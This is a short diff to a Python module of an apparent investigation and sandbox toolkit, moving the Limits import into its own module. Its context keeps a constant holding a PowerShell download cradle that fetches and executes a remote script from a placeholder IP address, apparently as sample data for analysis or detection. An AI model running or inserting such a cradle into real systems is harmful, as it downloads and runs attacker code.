@@ -22,7 +22,8 @@ from tools.investigate import (
     similar_cases,
 )
 from tools.investigate.fact_names import FACT_NAMES
-from tools.sandbox.sandbox import Limits, Sandbox
+from tools.limits import Limits
+from tools.sandbox.sandbox import Sandbox
 
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
 
